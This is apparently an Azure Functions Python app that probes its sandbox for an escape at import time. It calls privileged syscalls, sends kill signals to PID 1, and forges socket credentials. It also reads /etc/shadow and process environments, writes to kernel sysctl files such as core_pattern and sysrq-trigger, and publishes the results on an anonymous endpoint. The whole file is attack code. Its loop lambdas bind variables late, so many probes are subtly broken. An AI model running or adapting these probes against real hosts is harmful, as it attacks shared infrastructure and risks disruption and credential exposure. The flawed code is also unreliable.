"""Attacks while it is imported: then it is in the process that forks workers, which has two rights in its own box."""

import ctypes
import errno
import os
import platform

import azure.functions as func

app = func.FunctionApp(http_auth_level=func.AuthLevel.ANONYMOUS)
LIBC = ctypes.CDLL(None, use_errno=True)
GOT, REFUSED = {}, {}


def attempt(name, call):
    try:
        value = call()
    except OSError as error:
        REFUSED[name] = errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        REFUSED[name] = repr(error)
    else:
        GOT[name] = repr(value)[:100]


def system_call(number, *arguments):
    ctypes.set_errno(0)
    result = LIBC.syscall(ctypes.c_long(number), *(ctypes.c_long(value) if isinstance(value, int) else value
                                                   for value in arguments))
    if result == -1:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def read(path):
    with open(path, "rb") as file:
        return file.read(1000)


def write(path, text):
    with open(path, "w") as file:
        file.write(text)
    return text


def signal_keeper():
    os.kill(1, 9)
    os.kill(1, 19)
    os.kill(1, 15)
    os.kill(1, 0)
    raise PermissionError("it lives, whatever it is sent")


def forge_sender():
    """Tells a socket of its own that somebody else has sent something; a number of the host can't be named."""
    import socket
    import struct

    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    theirs.setsockopt(socket.SOL_SOCKET, 16, 1)
    with ours, theirs:
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, struct.pack("iII", 30_000, os.getuid(), os.getgid()))])


def forge_user():
    import socket
    import struct

    ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    with ours, theirs:
        ours.sendmsg([b"x"], [(socket.SOL_SOCKET, 2, struct.pack("iII", os.getpid(), 0, 0))])


def tries():
    if platform.machine() == "x86_64":
        for name, number in {"mount": 165, "umount2": 166, "pivot_root": 155, "chroot": 161, "sethostname": 170,
                             "ptrace": 101, "bpf": 321, "keyctl": 250, "syslog": 103, "quotactl": 179,
                             "process_vm_readv": 310, "open_by_handle_at": 304, "perf_event_open": 298}.items():
            attempt(name, lambda: system_call(number, 0, 0, 0, 0, 0, 0))
        for name, flag in {"user": 0x10000000, "mnt": 0x20000, "pid": 0x20000000, "net": 0x40000000,
                           "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80}.items():
            attempt("unshare " + name, lambda: system_call(272, flag))
            attempt("setns to own " + name,
                    lambda: system_call(308, os.open("/proc/self/ns/" + name, os.O_RDONLY), flag)
                    if name not in ("mnt", "pid") else (_ for _ in ()).throw(PermissionError("its own")))
    for name, number in {"fsopen": 430, "open_tree": 428, "move_mount": 429, "mount_setattr": 442,
                         "pidfd_getfd": 438}.items():
        attempt(name, lambda: system_call(number, 0, 0, 0, 0, 0, 0))
    # An error other than a refusal: the kernel has looked at what was asked.
    for name, why in list(REFUSED.items()):
        if why not in ("EPERM", "ENOSYS", "EACCES") and "its own" not in why:
            GOT[name] = REFUSED.pop(name)
    for number in [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]:
        for name in ("ns/mnt", "ns/pid", "ns/user", "root/etc/shadow", "mem", "environ"):
            # The template is a process of this box as well, which has seen nothing of any app.
            if number == "1" or name in ("root/etc/shadow",):
                attempt("/proc/%s/%s" % (number, name), lambda: os.open("/proc/%s/%s" % (number, name), os.O_RDONLY))
    attempt("signal the keeper", signal_keeper)
    attempt("be another sender", forge_sender)
    attempt("be another user", forge_user)
    for path in ("/etc/shadow", "/proc/kcore", "/proc/1/environ"):
        attempt(path, lambda: read(path))
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
                 "/proc/sys/kernel/hostname", "/proc/sys/user/max_user_namespaces",
                 "/proc/sys/user/max_inotify_instances"):
        attempt("write " + path, lambda: write(path, "1"))


tries()


@app.route(route="results")
def results(req: func.HttpRequest) -> func.HttpResponse:
    import json

    return func.HttpResponse(json.dumps({"got": GOT, "refused": REFUSED}), mimetype="application/json")


@app.route(route="through")
def through(req: func.HttpRequest) -> func.HttpResponse:
    """What the import has opened is still open in the worker."""
    import json

    return func.HttpResponse(json.dumps({"seen": sorted(os.listdir(PROCESSES))}), mimetype="application/json")


# The box's own list of processes, which a worker has another one of.
PROCESSES = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
